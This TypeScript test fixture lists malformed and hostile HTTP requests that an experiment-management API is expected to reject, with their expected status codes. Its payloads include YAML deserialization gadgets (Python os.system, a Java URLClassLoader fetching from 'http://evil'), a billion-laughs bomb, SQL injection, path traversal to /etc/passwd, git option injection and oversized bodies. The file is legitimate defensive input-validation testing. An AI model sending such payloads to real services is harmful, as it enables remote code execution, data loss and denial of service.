import type { RawRequest } from '../../support/raw-http.js';
import { seedExperiment } from './harness.js';

/** A request that must be refused, and how. */
export interface Malformed extends RawRequest {
  readonly name: string;
  readonly status: number;
}

const experiment = '/api/v1/experiment';
const environment = '/api/v1/environment';
const template = '/api/v1/template';
const stored = 'experiment_1586156073228_0001';
const { meta, spec } = seedExperiment;

function post(name: string, body: string | Buffer, status = 400, fields: Partial<Malformed> = {}): Malformed {
  return { name, method: 'POST', path: experiment, body, status, ...fields };
}

function json(name: string, document: unknown, fields: Partial<Malformed> = {}): Malformed {
  return post(name, JSON.stringify(document), 400, fields);
}

function yaml(name: string, body: string, status = 400): Malformed {
  return post(`YAML: ${name}`, body, status, { type: 'application/yaml' });
}

function get(name: string, path: string, status: number, fields: Partial<Malformed> = {}): Malformed {
  return { name, method: 'GET', path, status, ...fields };
}

const withMeta = (fields: object) => ({ ...seedExperiment, meta: { ...meta, ...fields } });
const withWorker = (worker: unknown) => ({ ...seedExperiment, spec: { Worker: worker } });
const deep = (open: string, close: string, depth: number) => open.repeat(depth) + close.repeat(depth);
const seedText = JSON.stringify(seedExperiment);

const notJson: readonly Malformed[] = [
  post('a brace alone', '{'),
  post('text', 'hello'),
  post('a comma too many', '{"meta":{},}'),
  post('single quotes', "{'meta':1}"),
  post('two values', '{} {}'),
  post('a comment', '{} // x'),
  post('NaN', '{"meta":NaN}'),
  post('a leading zero', '{"meta":01}'),
  post('a half-finished escape', '{"meta":"\\u12"}'),
  post('a control character in a text', '{"meta":"a\nb"}'),
  post('a cut text', seedText.slice(0, -1)),
  post('UTF-16', Buffer.from(seedText, 'utf16le')),
  post(
    'bytes that are no UTF-8',
    Buffer.concat([Buffer.from('{"a":"'), Buffer.of(0xff, 0xfe), Buffer.from('"}')]),
  ),
  post(
    'an overlong encoding',
    Buffer.concat([Buffer.from('{"a":"'), Buffer.of(0xc0, 0xaf), Buffer.from('"}')]),
  ),
  post('XML', '<experiment/>'),
  post('a form', 'meta=1&spec=2'),
];

const wrongTypes: readonly Malformed[] = [
  json('a list', []),
  json('a text', 'x'),
  json('a number', 5),
  json('true', true),
  json('an empty object', {}),
  json('meta is a text', { meta: 'x', spec }),
  json('meta is null', { meta: null, spec }),
  json('meta is a list', { meta: [], spec }),
  json('no spec', { meta }),
  json('spec is a list', { meta, spec: [] }),
  json('spec is a text', { meta, spec: 'x' }),
  json('a role is null', withWorker(null)),
  json('a role is a text', withWorker('x')),
  json('a role is a list', withWorker([])),
  json('name is a number', withMeta({ name: 5 })),
  json('name is an object', withMeta({ name: {} })),
  json('name is empty', withMeta({ name: '' })),
  json('name is null', withMeta({ name: null })),
  json('framework is a list', withMeta({ framework: ['TensorFlow'] })),
  json('framework is unknown', withMeta({ framework: 'Keras' })),
  json('framework is inherited', withMeta({ framework: '__proto__' })),
  json('cmd is a list', withMeta({ cmd: ['a'] })),
  json('envVars is a list', withMeta({ envVars: ['A=1'] })),
  json('envVars is a text', withMeta({ envVars: 'A=1' })),
  json('a variable is an object', withMeta({ envVars: { A: {} } })),
  json('a variable is a list', withMeta({ envVars: { A: [1] } })),
  json('a variable has no name', withMeta({ envVars: { '': 'x' } })),
  json('a variable has a name with =', withMeta({ envVars: { 'A=B': 'x' } })),
  json('tags is a text', withMeta({ tags: 'a,b' })),
  json('a tag is a number', withMeta({ tags: [1] })),
  json('a tag is null', withMeta({ tags: [null] })),
  json(
    'a hundred thousand tags',
    withMeta({ tags: Array.from({ length: 100_000 }, (_, index) => `${index}`) }),
  ),
  json('a long tag', withMeta({ tags: ['x'.repeat(251)] })),
  json('a long name', withMeta({ name: 'x'.repeat(300) })),
  json('replicas is an object', withWorker({ replicas: {} })),
  json('replicas is a word', withWorker({ replicas: 'two' })),
  json('replicas is true', withWorker({ replicas: true })),
  json('replicas is empty', withWorker({ replicas: '' })),
  json('resources is an object', withWorker({ resources: { cpu: 1 } })),
  json('resources is a number', withWorker({ resources: 1 })),
  json('resources has a bad quantity', withWorker({ resources: 'cpu=lots' })),
  json('an unknown role', { meta, spec: { Boss: {} } }),
  json('no role', { meta, spec: {} }),
  json('two roles of one name', { meta, spec: { Worker: {}, WORKER: {} } }),
  json('environment is a text', { ...seedExperiment, environment: 'x' }),
  json('environment.image is a number', { ...seedExperiment, environment: { image: 1 } }),
  json('kernelSpec is a list', { ...seedExperiment, environment: { kernelSpec: [] } }),
  json('code is a text', { ...seedExperiment, code: 'x' }),
  json('a git address of this machine', {
    ...seedExperiment,
    code: { syncMode: 'git', git: { url: 'file:///etc' } },
  }),
  json('a git address that is an option', {
    ...seedExperiment,
    code: { syncMode: 'git', url: '--upload-pack=x' },
  }),
  json(
    'an unknown environment',
    { ...seedExperiment, environment: { name: '../../etc/passwd' } },
    { status: 404 },
  ),
];

const numbers: readonly Malformed[] = [
  ['-1', 400],
  ['1.5', 400],
  ['1e9', 400],
  ['1e308', 400],
  ['1e309', 400],
  ['-1e999', 400],
  ['9223372036854775808', 400],
  ['1001', 400],
  [`1${'0'.repeat(100_000)}`, 400],
  ['"99999999999999999999"', 400],
].map(([number, status]) =>
  post(
    `replicas is ${String(number).slice(0, 30)}`,
    `{"meta":${JSON.stringify(meta)},"spec":{"Worker":{"replicas":${number}}}}`,
    Number(status),
  ),
);

const hostileText: readonly Malformed[] = [
  post('a NUL in a name', JSON.stringify(withMeta({ name: 'a\0b' }))),
  post('a NUL in the text itself', seedText.replace('tf-mnist', 'tf\0mnist')),
  post('a NUL in a key', JSON.stringify({ ...seedExperiment, 'a\0b': 1 })),
  post('a NUL in a variable', JSON.stringify(withMeta({ envVars: { A: 'a\0b' } }))),
  post('a lone surrogate', '{"meta":"\\ud800"}'),
  post('a lone surrogate in a key', '{"\\udc00":1}'),
  post('the key __proto__', '{"__proto__":{"meta":1},"meta":{},"spec":{}}'),
  post('deep lists', deep('[', ']', 100_000)),
  post('deep objects', `${'{"a":'.repeat(50_000)}1${'}'.repeat(50_000)}`),
  post('deep within a variable', JSON.stringify(seedExperiment).replace('"ENV1"', deep('[', ']', 1000))),
];

const sizes: readonly Malformed[] = [
  json('a name of 10 MB', withMeta({ name: 'x'.repeat(10_000_000) }), { status: 413 }),
  post('10 MB of spaces', ' '.repeat(10_000_000), 413),
  post('10 MB of braces', '{'.repeat(10_000_000), 413),
  yaml('10 MB', `a: ${'x'.repeat(10_000_000)}`, 413),
  get('a path of 6000 characters', `${experiment}/${'x'.repeat(6000)}`, 404),
];

const yamlBomb = [
  'a: &a [x,x,x,x,x,x,x,x,x]',
  ...'bcdefghi'.split('').map((key, index) => {
    const before = 'abcdefgh'[index];
    return `${key}: &${key} [${Array(9).fill(`*${before}`).join(',')}]`;
  }),
].join('\n');

const yamls: readonly Malformed[] = [
  yaml('a billion laughs', yamlBomb),
  yaml('an alias of itself', 'a: &a [*a]'),
  yaml('an unknown alias', 'a: *b'),
  yaml('a thousand aliases', `a: &a x\nb: [${'*a,'.repeat(1000)}]`),
  yaml('a tag of code', 'a: !!js/function "function(){}"'),
  yaml('a tag of Python', 'a: !!python/object/apply:os.system ["id"]'),
  yaml(
    'a tag of Java',
    '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil"]]]]',
  ),
  yaml('two documents', 'a: 1\n---\nb: 2'),
  yaml('a key twice', 'a: 1\na: 2'),
  yaml('a key that is a list', '? [a, b]\n: 1'),
  yaml('a tab for indentation', 'a:\n\tb: 1'),
  yaml('an open quote', 'a: "b'),
  yaml('an open list', 'a: [1, 2'),
  yaml('deep lists', deep('[', ']', 100_000)),
  yaml('deep mappings', Array.from({ length: 500 }, (_, depth) => `${' '.repeat(depth)}a:`).join('\n')),
  yaml('a text', 'hello'),
  yaml('infinity', 'meta: .inf'),
  yaml('a NUL', 'a: "\\0"'),
  yaml('the key __proto__', '__proto__: {a: 1}'),
];

const wrongHeaders: readonly Malformed[] = [
  post('no content type', seedText, 415, { type: null }),
  post('text/yaml', 'a: 1', 415, { type: 'text/yaml' }),
  post('multipart', seedText, 415, { type: 'multipart/form-data; boundary=x' }),
  post('a type like ours', seedText, 415, { type: 'application/jsonx' }),
  post('two types', seedText, 415, { type: 'application/json, text/plain' }),
  post('another charset', seedText, 415, { type: 'application/json; charset=utf-16' }),
  post('an idempotency key with a space', seedText, 400, { headers: { 'Idempotency-Key': 'a b' } }),
  post('a long idempotency key', seedText, 400, { headers: { 'Idempotency-Key': 'x'.repeat(300) } }),
  get('an Accept without JSON', experiment, 406, { headers: { Accept: 'text/html' } }),
];

const wrongMethods: readonly Malformed[] = [
  { name: 'PUT of the list', method: 'PUT', path: experiment, status: 405 },
  { name: 'DELETE of the list', method: 'DELETE', path: experiment, status: 405 },
  { name: 'PATCH of the list', method: 'PATCH', path: experiment, status: 405 },
  { name: 'PUT of one', method: 'PUT', path: `${experiment}/${stored}`, status: 405 },
  { name: 'POST of a log', method: 'POST', path: `${experiment}/logs/${stored}`, body: '{}', status: 405 },
  { name: 'DELETE of all environments', method: 'DELETE', path: environment, status: 405 },
  { name: 'PUT of a template', method: 'PUT', path: `${template}/x`, status: 405 },
  { name: 'GET of the login', method: 'GET', path: '/api/auth/token', status: 405 },
  { name: 'GET of metrics', method: 'GET', path: '/api/metric/selective', status: 405 },
  {
    name: 'a method that pretends to be another',
    method: 'PUT',
    path: experiment,
    headers: { 'X-HTTP-Method-Override': 'GET' },
    status: 405,
  },
];

const ids: readonly Malformed[] = [
  'experiment_1_0001',
  'experiment_99999999999999999999_0001',
  'experiment__0001',
  '0001',
  '-1',
  'null',
  "'%20or%201=1--",
  '%27%3B%20DROP%20TABLE%20run%3B--',
  '..%2f..%2f..%2fetc%2fpasswd',
  '..%5c..%5cwindows',
  '%252e%252e%252f',
  '%e2%80%ae',
  '*',
  '%25',
].map((id) => get(`the id ${id}`, `${experiment}/${id}`, 404));

const paths: readonly Malformed[] = [
  get('a log outside of its folder', `${experiment}/logs/..%2f..%2ffranca.db`, 404),
  get('a NUL in an id', `${experiment}/a%00b`, 400),
  get('bytes that are no UTF-8 in an id', `${experiment}/%ff%fe`, 400),
  get('a broken escape', `${experiment}/%zz`, 400),
  get('a broken escape in the query', `${experiment}?status=%`, 400),
  get('a NUL in the query', `${experiment}?status=%00`, 400),
  get('a status twice', `${experiment}?status=a&status=b`, 400),
  get('a limit that is no number', `${experiment}?limit=all`, 400),
  get('a negative limit', `${experiment}?limit=-1`, 400),
  get('a huge offset', `${experiment}?offset=99999999999999999999`, 400),
  get('a path below one experiment', `${experiment}/a/b/c`, 404),
  get('an unknown environment', `${environment}/..%2f..%2fetc%2fpasswd`, 404),
  get('an unknown template', `${template}/%2e%2e%2f`, 404),
  get('notebooks', '/api/v1/notebook', 404),
  get('serve', '/api/v1/serve/ping', 404),
  get('registered models', '/api/v1/registered-model/ping', 404),
  get('something beside the login', '/api/auth/logout', 404),
];

const otherBodies: readonly Malformed[] = [
  json('an environment with a path for a name', { name: '../../x' }, { path: environment }),
  json('an environment named ..', { name: '..' }, { path: environment }),
  json('an environment without a name', { image: 'x' }, { path: environment }),
  json('an environment that is a list', [], { path: environment }),
  post('an empty environment', '', 400, { path: environment }),
  json(
    'a template with a path for a name',
    { name: 'a/../b', experimentSpec: seedExperiment },
    { path: template },
  ),
  json('a template without an experiment', { name: 'a' }, { path: template }),
  json(
    'a template with an unused parameter',
    { name: 'a', parameters: [{ name: 'x' }], experimentSpec: seedExperiment },
    { path: template },
  ),
  json(
    'a template with a parameter that is a text',
    { name: 'a', parameters: ['x'], experimentSpec: seedExperiment },
    { path: template },
  ),
  json(
    'a template of braces',
    { name: 'a', experimentSpec: withMeta({ cmd: `{{x}}${'{{'.repeat(200_000)}` }) },
    { path: template },
  ),
  json('a submission to no template', { params: {} }, { path: `${experiment}/none`, status: 404 }),
  json('a submission whose params are a list', { params: [] }, { path: `${experiment}/none` }),
  json('a PATCH of no experiment', seedExperiment, {
    method: 'PATCH',
    path: `${experiment}/${stored}`,
    status: 404,
  }),
  json('a PATCH of a list', [], { method: 'PATCH', path: `${experiment}/${stored}` }),
  json(
    'a PATCH of no environment',
    { name: 'x' },
    { method: 'PATCH', path: `${environment}/x`, status: 404 },
  ),
  json('metrics without an id', {}, { path: '/api/metric/selective' }),
  json('params of a number', { id: 5 }, { path: '/api/param/selective' }),
  json('a login with a list for a password', { password: [] }, { path: '/api/auth/token' }),
];

/** Requests of every kind that must be refused in this dialect's envelope. */
export const malformed: readonly Malformed[] = [
  ...notJson,
  ...wrongTypes,
  ...numbers,
  ...hostileText,
  ...sizes,
  ...yamls,
  ...wrongHeaders,
  ...wrongMethods,
  ...ids,
  ...paths,
  ...otherBodies,
];
